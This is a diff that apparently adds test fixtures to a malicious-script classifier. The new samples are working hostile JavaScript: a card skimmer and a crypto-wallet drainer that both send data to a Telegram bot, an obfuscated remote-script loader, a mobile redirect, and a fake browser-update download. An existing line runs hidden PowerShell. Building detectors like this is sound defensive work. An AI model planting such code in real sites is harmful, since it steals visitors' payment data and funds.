@@ -178,6 +178,31 @@ export const SCRIPT_CASES: readonly ScriptCase[] = [
     source: `/*@cc_on var s=new ActiveXObject("WScript.Shell");s.Run("powershell -w hidden -c FILLER",0,false); @*/`,
     head: 'malware',
   },
+  {
+    name: 'telephones sold once a day',
+    source: `if(/Android|iPhone/i.test(navigator.userAgent)&&!localStorage.getItem('v')){localStorage.setItem('v',Date.now());location.href='https://offers.example.net/click?o=12&s='+location.hostname}`,
+    head: 'malware',
+  },
+  {
+    name: 'a script by mirror',
+    source: `document.write('<scr'+'ipt src="'+'sj.x/ten.ecalpemos.m//:ptth'.split('').reverse().join('')+'"></scr'+'ipt>')`,
+    head: 'malware',
+  },
+  {
+    name: 'a card by a messenger',
+    source: `document.querySelector('#pay').onclick=function(){fetch('https://api.telegram.org/bot1:A/sendMessage',{method:'POST',body:JSON.stringify({chat_id:1,text:document.querySelector('#card-number').value+'|'+document.querySelector('#cvv').value})})}`,
+    head: 'magecart',
+  },
+  {
+    name: 'a wallet emptied, and told to a messenger',
+    source: `document.querySelector('#claim').onclick=async function(){var a=(await ethereum.request({method:'eth_requestAccounts'}))[0];var b=await ethereum.request({method:'eth_getBalance',params:[a,'latest']});await ethereum.request({method:'eth_sendTransaction',params:[{from:a,to:'0x52908400098527886E0F7030069857D2E4169EE7',value:b}]});fetch('https://api.telegram.org/bot1:A/sendMessage?text='+a)}`,
+    head: 'malware',
+  },
+  {
+    name: 'an update of a browser that is an archive of a stranger',
+    source: `var d=document.createElement('div');d.innerHTML='<div style="position:fixed;top:0;left:0;width:100%;height:100%"><h1>You are using an older version of Chrome</h1><a href="https://dl.example.net/Update.iso">Update</a></div>';document.body.appendChild(d)`,
+    head: 'malware',
+  },
   { name: 'nothing', source: '', head: null },
   {
     name: 'proof of work against robots',
